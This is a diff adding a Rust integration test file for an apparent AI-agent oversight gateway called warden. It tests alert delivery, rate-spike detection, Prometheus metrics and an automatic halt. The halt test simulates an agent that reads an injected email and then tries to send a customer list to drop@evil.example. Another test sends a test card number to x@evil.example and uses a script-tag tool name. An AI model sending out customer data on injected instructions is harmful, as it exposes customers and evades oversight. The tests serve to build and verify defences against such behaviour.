@@ -1,0 +1,762 @@
+//! Monitoring and containment against real peers: the monitor's alerts reach a webhook
+//! receiver that checks the signature and an SMTP server (aiosmtpd, STARTTLS and AUTH); a rate
+//! spike is judged against a learned baseline; an automatic halt cancels the agent's pending
+//! approval and its call in flight and rotates its own credential, which the provider then
+//! refuses; `/metrics` parses with the Prometheus reference parser.
+
+use std::io::{BufRead, BufReader, Write};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+
+use crate::harness::{BIN, Server, eventually};
+use crate::notify::Peer;
+
+const HOOK_SECRET: &str = "canary-MONITOR-HOOK-SECRET-91ab";
+const SMTP_PASSWORD: &str = "canary-MONITOR-SMTP-PASSWORD-7c2d";
+const MASTER: &str = "AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA=";
+const CRED_INITIAL: &str = "canary-AGENT-CREDENTIAL-0-5e1f";
+
+fn root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+/// Starts a Python peer (`tests/<dir>/<script>`) and reads its port.
+fn python(dir: &str, script: &str, args: &[&str], envs: &[(&str, &str)]) -> (Peer, u16) {
+    let python = root().join(".venv-test/bin/python");
+    assert!(python.exists(), "run scripts/test-deps.sh");
+    let mut child = Command::new(python)
+        .arg(root().join("crates/warden/tests").join(dir).join(script))
+        .args(args)
+        .envs(envs.iter().copied())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    let port = line
+        .trim()
+        .strip_prefix("listening on ")
+        .unwrap_or_else(|| panic!("{script}: {line:?}"))
+        .parse()
+        .unwrap();
+    (Peer(child), port)
+}
+
+fn lines(path: &Path) -> Vec<Value> {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+async fn until(path: &Path, what: &str, check: impl Fn(&[Value]) -> bool) -> Vec<Value> {
+    let start = Instant::now();
+    loop {
+        let l = lines(path);
+        if check(&l) {
+            return l;
+        }
+        assert!(
+            start.elapsed() < Duration::from_secs(30),
+            "{what}: never happened; got {l:#?}"
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
+
+fn cli(s: &Server, args: &[&str], stdin: Option<&str>) -> (i32, String, String) {
+    let mut child = Command::new(BIN)
+        .args(args)
+        .env("WARDEN_ADDR", &s.base)
+        .env("WARDEN_TOKEN", &s.admin)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    if let Some(input) = stdin {
+        child
+            .stdin
+            .take()
+            .unwrap()
+            .write_all(input.as_bytes())
+            .unwrap();
+    }
+    drop(child.stdin.take());
+    let out = child.wait_with_output().unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+async fn alerts(s: &Server, query: &str) -> Vec<Value> {
+    let (st, v) = s
+        .request(&s.admin, "GET", &format!("/v1/admin/alerts?{query}"), None)
+        .await;
+    assert_eq!(st, 200, "{v}");
+    v["alerts"].as_array().unwrap().clone()
+}
+
+/// An alert of `kind` (waits for the monitor, which reads the log as it is written).
+async fn alert_of(s: &Server, kind: &str) -> Value {
+    let mut found = Value::Null;
+    eventually(&format!("a `{kind}` alert"), async || {
+        found = alerts(s, "state=all")
+            .await
+            .into_iter()
+            .find(|a| a["kind"] == kind)
+            .unwrap_or(Value::Null);
+        !found.is_null()
+    })
+    .await;
+    found
+}
+
+fn monitor_quick(extra: &str) -> String {
+    format!(
+        r#"
+[monitor]
+warm_up_actions = 2
+warm_up = "0s"
+{extra}
+"#
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_first_message_to_a_new_external_domain_alerts_a_webhook_and_a_mailbox() {
+    let dir = tempfile::tempdir().unwrap();
+    let hooks = dir.path().join("hooks.jsonl");
+    let mails = dir.path().join("mails.jsonl");
+    let (ca_pem, cert, key) = crate::network::issued_for(dir.path(), "smtp", "DNS:localhost", None);
+    let ca_file = dir.path().join("smtp-ca.pem");
+    std::fs::write(&ca_file, &ca_pem).unwrap();
+    let (cert_file, key_file) = (dir.path().join("smtp.crt"), dir.path().join("smtp.key"));
+    std::fs::write(&cert_file, &cert).unwrap();
+    std::fs::write(&key_file, &key).unwrap();
+    let (_receiver, hook_port) = python(
+        "notify",
+        "receiver.py",
+        &[hooks.to_str().unwrap()],
+        &[("HOOK_SECRET", HOOK_SECRET)],
+    );
+    let (_smtp, smtp_port) = python(
+        "notify",
+        "smtp_server.py",
+        &[
+            mails.to_str().unwrap(),
+            cert_file.to_str().unwrap(),
+            key_file.to_str().unwrap(),
+            "warden",
+            SMTP_PASSWORD,
+        ],
+        &[],
+    );
+    let ca = ca_file.to_str().unwrap().to_owned();
+    let s = Server::start_with_env(
+        move |t| {
+            t + &monitor_quick(
+                r#"
+[[monitor.route]]
+kinds = ["new_domain"]
+channels = ["secops-hook", "secops-mail"]
+"#,
+            ) + &format!(
+                r#"
+[notify]
+console_url = "http://127.0.0.1:1/console"
+retry_base = "100ms"
+
+[notify.channels.secops-hook]
+type = "webhook"
+url = "http://127.0.0.1:{hook_port}/hook"
+secret = "{{{{env:HOOK_SECRET}}}}"
+
+[notify.channels.secops-mail]
+type = "email"
+server = "localhost:{smtp_port}"
+from = "warden@groupany.example"
+to = ["secops@groupany.example"]
+username = "warden"
+password = "{{{{env:SMTP_PASSWORD}}}}"
+ca_file = "{ca}"
+"#
+            )
+        },
+        &[
+            ("HOOK_SECRET", HOOK_SECRET),
+            ("SMTP_PASSWORD", SMTP_PASSWORD),
+        ],
+    )
+    .await;
+    let bot = s.token("agent", "marketing-bot").await;
+    let mail =
+        |to: &str| json!({"to": to, "subject": "Spring offer", "body": "Hello from GroupAny"});
+    // The baseline: two messages to a partner and one inside the company.
+    for to in [
+        "anna@partner.example",
+        "ben@partner.example",
+        "team@groupany.example",
+    ] {
+        let (st, v) = s.act(&bot, "email.send", mail(to), "m1").await;
+        assert!(st == 200 || st == 202, "{st} {v}");
+    }
+    // Letters, case and display names do not make a known domain new.
+    let (st, v) = s
+        .act(
+            &bot,
+            "email.send",
+            mail("Carl <carl@PARTNER.example>"),
+            "m1",
+        )
+        .await;
+    assert!(st == 200 || st == 202, "{st} {v}");
+    tokio::time::sleep(Duration::from_millis(800)).await;
+    assert!(
+        alerts(&s, "state=all").await.is_empty(),
+        "no alert during the baseline"
+    );
+
+    // The first message to a domain the agent never wrote to.
+    let (st, v) = s
+        .act(&bot, "email.send", mail("x@new-domain.example"), "m1")
+        .await;
+    assert!(st == 200 || st == 202, "{st} {v}");
+    let alert = alert_of(&s, "new_domain").await;
+    assert_eq!(alert["agent"], "marketing-bot");
+    assert_eq!(alert["severity"], "medium");
+    assert_eq!(alert["state"], "open");
+    assert!(
+        alert["summary"]
+            .as_str()
+            .unwrap()
+            .contains("new-domain.example")
+    );
+    // Its evidence is the record of the attempt.
+    let seq = alert["evidence"][0].as_u64().unwrap();
+    let rec = s.audit("event=action.received&agent=marketing-bot").await;
+    let r = rec.iter().find(|r| r["seq"] == seq).unwrap();
+    assert_eq!(r["tool"], "email.send");
+    assert_eq!(
+        r["output"]["recipients"]["domains"],
+        json!(["new-domain.example"])
+    );
+    let raised = s.audit("event=alert.raised").await;
+    assert_eq!(raised.len(), 1, "{raised:?}");
+    assert_eq!(raised[0]["output"]["alert"], alert["id"]);
+
+    // The webhook: signed, verified by the receiver, the alert and its evidence.
+    let got = until(&hooks, "the alert webhook", |l| {
+        l.iter().any(|e| e["path"] == "/hook")
+    })
+    .await;
+    let hook = got.iter().find(|e| e["path"] == "/hook").unwrap();
+    assert_eq!(hook["verified"], true, "{hook}");
+    assert_eq!(hook["headers"]["warden-event"], "alert.raised");
+    assert_eq!(hook["body"]["type"], "alert.raised");
+    assert_eq!(hook["body"]["alerts"][0]["id"], alert["id"]);
+    assert_eq!(hook["body"]["alerts"][0]["kind"], "new_domain");
+    assert_eq!(hook["body"]["alerts"][0]["evidence"], json!([seq]));
+    assert_eq!(hook["body"]["link"], "http://127.0.0.1:1/console/alerts");
+    // The mail: STARTTLS, AUTH, to the security team.
+    let got = until(&mails, "the alert mail", |l| !l.is_empty()).await;
+    assert_eq!(got[0]["tls"], true);
+    assert_eq!(got[0]["auth"], true);
+    assert_eq!(got[0]["rcpt_tos"], json!(["secops@groupany.example"]));
+    let content = got[0]["content"].as_str().unwrap();
+    assert!(
+        content.contains("Subject: [Warden] MEDIUM alert:"),
+        "{content}"
+    );
+    assert!(content.contains("new-domain.example"));
+    // Both deliveries recorded, naming the alert.
+    eventually("both deliveries recorded", async || {
+        s.audit("event=notification.sent")
+            .await
+            .iter()
+            .filter(|r| r["output"]["alerts"] == json!([alert["id"]]))
+            .count()
+            == 2
+    })
+    .await;
+
+    // A second message there is not new: no second alert, nothing more sent.
+    let (st, _) = s
+        .act(&bot, "email.send", mail("y@new-domain.example"), "m1")
+        .await;
+    assert!(st == 200 || st == 202);
+    tokio::time::sleep(Duration::from_millis(800)).await;
+    assert_eq!(alerts(&s, "state=all").await.len(), 1);
+
+    // Acknowledged and resolved from the command line; both recorded.
+    let id = alert["id"].as_str().unwrap();
+    let (code, out, err) = cli(&s, &["alerts", "ack", id], None);
+    assert_eq!(code, 0, "{out}{err}");
+    let (code, _, err) = cli(&s, &["alerts", "ack", id], None);
+    assert_eq!(code, 5, "acknowledging twice is a conflict: {err}");
+    let (code, out, err) = cli(&s, &["alerts", "list", "--json"], None);
+    assert_eq!(code, 0, "{err}");
+    let listed: Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(listed["alerts"][0]["state"], "acknowledged");
+    let (code, _, err) = cli(&s, &["alerts", "resolve", id, "--note", "  "], None);
+    assert_eq!(code, 1, "a resolution needs a note: {err}");
+    let (code, out, err) = cli(
+        &s,
+        &[
+            "alerts",
+            "resolve",
+            id,
+            "--note",
+            "new partner, confirmed with marketing",
+        ],
+        None,
+    );
+    assert_eq!(code, 0, "{out}{err}");
+    assert!(alerts(&s, "state=active").await.is_empty());
+    assert_eq!(s.audit("event=alert.acknowledged").await.len(), 1);
+    let resolved = s.audit("event=alert.resolved").await;
+    assert_eq!(resolved[0]["actor"], "admin");
+    assert_eq!(
+        resolved[0]["output"]["note"],
+        "new partner, confirmed with marketing"
+    );
+    // No credential anywhere it could leak.
+    let log = std::fs::read_to_string(&s.log).unwrap();
+    let db = std::fs::read(&s.db).unwrap();
+    for canary in [HOOK_SECRET, SMTP_PASSWORD] {
+        assert!(!log.contains(canary));
+        assert!(!db.windows(canary.len()).any(|w| w == canary.as_bytes()));
+        assert!(!lines(&hooks).iter().any(|e| e.to_string().contains(canary)));
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_rate_spike_is_judged_against_the_agents_learned_baseline() {
+    let s = Server::start_with(|t| {
+        t + &monitor_quick(
+            r#"
+[monitor.detectors.rate_spike]
+window = "250ms"
+min = 12
+threshold = 4
+"#,
+        )
+    })
+    .await;
+    let bot = s.token("agent", "support-bot").await;
+    let read = json!({"customer_id": "C1182"});
+    // The usual pace: one read per window for four seconds (the baseline needs ten windows).
+    let start = Instant::now();
+    while start.elapsed() < Duration::from_secs(4) {
+        let (st, v) = s.act(&bot, "crm.get_customer", read.clone(), "r1").await;
+        assert_eq!(st, 200, "{v}");
+        tokio::time::sleep(Duration::from_millis(250)).await;
+    }
+    tokio::time::sleep(Duration::from_millis(600)).await;
+    assert!(
+        !alerts(&s, "state=all")
+            .await
+            .iter()
+            .any(|a| a["kind"] == "rate_spike"),
+        "the usual pace is not a spike"
+    );
+    // Thirty at once, far above the baseline.
+    let calls = (0..30).map(|_| s.act(&bot, "crm.get_customer", read.clone(), "r1"));
+    for (st, v) in futures_util::future::join_all(calls).await {
+        assert!(st == 200 || st == 429, "{st} {v}");
+    }
+    let alert = alert_of(&s, "rate_spike").await;
+    assert_eq!(alert["agent"], "support-bot");
+    assert_eq!(alert["severity"], "high");
+    let detail = &alert["detail"];
+    assert!(detail["observed"].as_f64().unwrap() > detail["limit"].as_f64().unwrap());
+    assert!(detail["baseline"].as_f64().unwrap() < 3.0, "{detail}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_automatic_halt_cancels_approvals_and_calls_and_rotates_the_agents_credential() {
+    let dir = tempfile::tempdir().unwrap();
+    let events = dir.path().join("cred.jsonl");
+    let (_cred, port) = python(
+        "monitor",
+        "credential_service.py",
+        &[events.to_str().unwrap()],
+        &[("CRED_INITIAL", CRED_INITIAL)],
+    );
+    let cred_url = format!("http://127.0.0.1:{port}");
+    let hook = format!("{cred_url}/hook");
+    let upstream = cred_url.clone();
+    let s = Server::start_with_env(
+        move |t| {
+            let t: String = t
+                .lines()
+                .map(|l| {
+                    if l.contains("/tools/crm.get_customer\"") {
+                        r#"connector = { type = "http", upstream = "cred", path = "/tools/crm.get_customer", headers = { Authorization = "Bearer {{secret:support_crm}}" }, timeout = "5s" }"#.to_owned()
+                    } else if l.contains("/tools/crm.update_contact\"") {
+                        r#"connector = { type = "http", upstream = "cred", path = "/tools/slow", headers = { Authorization = "Bearer {{secret:support_crm}}" }, timeout = "60s" }"#.to_owned()
+                    } else {
+                        l.to_owned()
+                    }
+                })
+                .collect::<Vec<_>>()
+                .join("\n");
+            t + &format!(
+                r#"
+[upstreams.cred]
+url = "{upstream}"
+
+[vault.rotate.support_crm]
+every = "30d"
+url = "{hook}"
+revoke_url = "{hook}"
+"#
+            ) + &monitor_quick(
+                r#"
+[[monitor.halt]]
+kinds = ["exfiltration_attempt"]
+"#,
+            )
+        },
+        &[("WARDEN_MASTER_KEY", MASTER)],
+    )
+    .await;
+    let (code, out, err) = cli(
+        &s,
+        &[
+            "secrets",
+            "put",
+            "support_crm",
+            "--from-stdin",
+            "--agent",
+            "support-bot",
+        ],
+        Some(CRED_INITIAL),
+    );
+    assert_eq!(code, 0, "{out}{err}");
+    let bot = s.token("agent", "support-bot").await;
+    // A call in flight (before the run read anything): the provider keeps it waiting.
+    let slow = {
+        let http = s.http.clone();
+        let url = format!("{}/v1/actions", s.base);
+        let bot = bot.clone();
+        tokio::spawn(async move {
+            let t = Instant::now();
+            let r = http
+                .post(url)
+                .bearer_auth(bot)
+                .json(&json!({"tool": "crm.update_contact", "arguments": {"customer_id": "C1182"}, "session": "run"}))
+                .send()
+                .await
+                .unwrap();
+            (
+                r.status().as_u16(),
+                r.json::<Value>().await.unwrap(),
+                t.elapsed(),
+            )
+        })
+    };
+    let t = Instant::now();
+    while !lines(&events).iter().any(|e| e["path"] == "/tools/slow") {
+        assert!(
+            !slow.is_finished(),
+            "the slow call ended early: {:?}",
+            slow.await
+        );
+        assert!(
+            t.elapsed() < Duration::from_secs(10),
+            "the slow call never reached the provider"
+        );
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    let (st, v) = s
+        .act(
+            &bot,
+            "crm.get_customer",
+            json!({"customer_id": "C1182"}),
+            "run",
+        )
+        .await;
+    assert_eq!(st, 200, "the credential works: {v}");
+
+    // The agent reads an e-mail carrying an injection, then tries to write outside.
+    let (st, v) = s
+        .act(&bot, "email.read_inbox", json!({"limit": 5}), "run")
+        .await;
+    assert_eq!(st, 200, "{v}");
+    let injection = alert_of(&s, "injection").await;
+    assert_eq!(injection["agent"], "support-bot");
+    let (st, v) = s
+        .act(
+            &bot,
+            "email.send",
+            json!({"to": "drop@evil.example", "subject": "export", "body": "customer list"}),
+            "run",
+        )
+        .await;
+    assert_eq!(st, 202, "held for a human: {v}");
+    let held = v["approval_id"].as_str().unwrap().to_owned();
+
+    // The monitor sees an exfiltration attempt and the rule halts the agent.
+    let alert = alert_of(&s, "exfiltration_attempt").await;
+    assert_eq!(alert["severity"], "critical");
+    assert_eq!(alert["evidence"].as_array().unwrap().len(), 2);
+    eventually("the agent is halted", async || {
+        let (_, v) = s.request(&s.admin, "GET", "/v1/admin/agents", None).await;
+        v.as_array()
+            .unwrap()
+            .iter()
+            .any(|a| a["id"] == "support-bot" && a["status"] == "halted")
+    })
+    .await;
+    let halted = s.audit("event=agent.halted&agent=support-bot").await;
+    assert_eq!(halted[0]["actor"], "monitor");
+    assert!(
+        halted[0]["description"]
+            .as_str()
+            .unwrap()
+            .contains(alert["id"].as_str().unwrap())
+    );
+    eventually("the alert says it halted the agent", async || {
+        alerts(&s, "state=all")
+            .await
+            .iter()
+            .any(|a| a["kind"] == "exfiltration_attempt" && a["halted"] == true)
+    })
+    .await;
+
+    // Its pending approval was cancelled.
+    let (_, a) = s
+        .request(
+            &s.admin,
+            "GET",
+            &format!("/v1/admin/approvals/{held}"),
+            None,
+        )
+        .await;
+    assert_eq!(a["state"], "cancelled", "{a}");
+    // Its call in flight was cancelled (not left to run its 30 s), and recorded so.
+    let (st, v, took) = slow.await.unwrap();
+    assert!(
+        took < Duration::from_secs(20),
+        "cancelled at once: {took:?}"
+    );
+    assert_eq!(st, 409, "{v}");
+    assert_eq!(v["code"], "cancelled", "{v}");
+    let cancelled = s.audit("event=action.cancelled&agent=support-bot").await;
+    assert!(
+        cancelled[0]["description"]
+            .as_str()
+            .unwrap()
+            .contains("was halted"),
+        "{cancelled:?}"
+    );
+    // Its own credential was rotated and the old value revoked at the provider: the provider
+    // now refuses it.
+    let got = until(&events, "rotated and revoked", |l| {
+        l.iter().any(|e| e["event"] == "rotate") && l.iter().any(|e| e["event"] == "revoke")
+    })
+    .await;
+    let revoked = got.iter().find(|e| e["event"] == "revoke").unwrap();
+    assert_eq!(revoked["value"], CRED_INITIAL);
+    let r = s
+        .http
+        .post(format!("{cred_url}/tools/crm.get_customer"))
+        .bearer_auth(CRED_INITIAL)
+        .json(&json!({}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status().as_u16(), 401, "the old credential is dead");
+    // The agent is refused, and its token still trying is an alert of its own.
+    let (st, v) = s
+        .act(
+            &bot,
+            "crm.get_customer",
+            json!({"customer_id": "C1182"}),
+            "run",
+        )
+        .await;
+    assert_eq!(st, 403, "{v}");
+    assert_eq!(v["code"], "agent_halted");
+    alert_of(&s, "halted_agent_activity").await;
+    // Resumed, it works with the new credential.
+    let (code, _, err) = cli(&s, &["resume", "support-bot"], None);
+    assert_eq!(code, 0, "{err}");
+    let (st, v) = s
+        .act(
+            &bot,
+            "crm.get_customer",
+            json!({"customer_id": "C1182"}),
+            "run2",
+        )
+        .await;
+    assert_eq!(st, 200, "the rotated credential works: {v}");
+    // No credential value anywhere it could leak.
+    let log = std::fs::read_to_string(&s.log).unwrap();
+    let db = std::fs::read(&s.db).unwrap();
+    let rotated = got.iter().find(|e| e["event"] == "rotate").unwrap()["to"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    for canary in [CRED_INITIAL, rotated.as_str()] {
+        assert!(!log.contains(canary), "{canary} in the log");
+        assert!(!db.windows(canary.len()).any(|w| w == canary.as_bytes()));
+        let all = s.audit("limit=10000").await;
+        assert!(!all.iter().any(|r| r.to_string().contains(canary)));
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn metrics_parse_with_the_prometheus_parser_and_hold_every_family() {
+    let s = Server::start().await;
+    let bot = s.token("agent", "support-bot").await;
+    let op = s.token("operator", "fiona").await;
+    let (st, _) = s
+        .act(
+            &bot,
+            "crm.get_customer",
+            json!({"customer_id": "C1182"}),
+            "x",
+        )
+        .await;
+    assert_eq!(st, 200);
+    // A tool name that is not configured is `unknown`: no agent-chosen string is a label.
+    let (st, _) = s.act(&bot, "bob@example.net<script>", json!({}), "x").await;
+    assert_eq!(st, 404);
+    let (st, _) = s
+        .act(
+            &bot,
+            "email.send",
+            json!({"to": "x@evil.example", "subject": "s", "body": "card 4111 1111 1111 1111"}),
+            "x",
+        )
+        .await;
+    assert_eq!(st, 403);
+    // Without a token: refused.
+    let r = s
+        .http
+        .get(format!("{}/metrics", s.base))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status().as_u16(), 401);
+    let r = s
+        .http
+        .get(format!("{}/metrics", s.base))
+        .bearer_auth(&op)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status().as_u16(), 200);
+    assert!(
+        r.headers()["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/plain; version=0.0.4")
+    );
+    let text = r.text().await.unwrap();
+    assert!(
+        !text.contains("bob@example.net") && !text.contains("4111"),
+        "{text}"
+    );
+    let mut child = Command::new(root().join(".venv-test/bin/python"))
+        .arg(root().join("crates/warden/tests/monitor/parse_metrics.py"))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(text.as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(
+        out.status.success(),
+        "{}\n{text}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let families: Value = serde_json::from_slice(&out.stdout).unwrap();
+    for (name, kind) in [
+        ("warden_requests", "counter"),
+        ("warden_request_duration_seconds", "histogram"),
+        ("warden_decision_duration_seconds", "histogram"),
+        ("warden_store_commit_duration_seconds", "histogram"),
+        ("warden_pending_approvals", "gauge"),
+        ("warden_agent_halted", "gauge"),
+        ("warden_budget_used_ratio", "gauge"),
+        ("warden_alerts", "counter"),
+        ("warden_alerts_open", "gauge"),
+        ("warden_audit_records", "gauge"),
+        ("warden_audit_stream_lag_records", "gauge"),
+        ("warden_store_up", "gauge"),
+        ("warden_change_feed_up", "gauge"),
+        ("warden_halt_propagation_seconds", "histogram"),
+    ] {
+        assert_eq!(families[name]["type"], kind, "{name}: {}", families[name]);
+    }
+    let requests = families["warden_requests"]["samples"].as_array().unwrap();
+    let find = |tool: &str, outcome: &str| {
+        requests.iter().find(|s| {
+            s["labels"]["tool"] == tool
+                && s["labels"]["outcome"] == outcome
+                && s["labels"]["agent"] == "support-bot"
+                && s["labels"]["surface"] == "actions"
+        })
+    };
+    assert_eq!(find("crm.get_customer", "executed").unwrap()["value"], 1.0);
+    assert_eq!(
+        find("unknown", "refused").unwrap()["labels"]["code"],
+        "unknown_tool"
+    );
+    assert_eq!(
+        find("email.send", "refused").unwrap()["labels"]["code"],
+        "denied"
+    );
+    let store_up = &families["warden_store_up"]["samples"][0]["value"];
+    assert_eq!(store_up, 1.0);
+    // The support team's monthly budget is in its period, unused.
+    let budget = families["warden_budget_used_ratio"]["samples"]
+        .as_array()
+        .unwrap();
+    assert!(
+        budget.iter().any(|b| b["labels"]["scope"] == "role:support"
+            && b["labels"]["period"] == "monthly"
+            && b["labels"]["unit"] == "usd"),
+        "{budget:?}"
+    );
+    // Histograms: the +Inf bucket equals the count.
+    let decision = families["warden_decision_duration_seconds"]["samples"]
+        .as_array()
+        .unwrap();
+    let inf = decision
+        .iter()
+        .find(|s| s["labels"]["le"] == "+Inf")
+        .unwrap()["value"]
+        .as_f64()
+        .unwrap();
+    let count = decision
+        .iter()
+        .find(|s| s["name"] == "warden_decision_duration_seconds_count")
+        .unwrap()["value"]
+        .as_f64()
+        .unwrap();
+    assert_eq!(inf, count);
+    assert!(count >= 2.0);
+    // /readyz says the store and the change feed are live.
+    let (st, v) = s.request("", "GET", "/readyz", None).await;
+    assert_eq!(st, 200, "{v}");
+    assert_eq!(v["change_feed"], "local");
+}
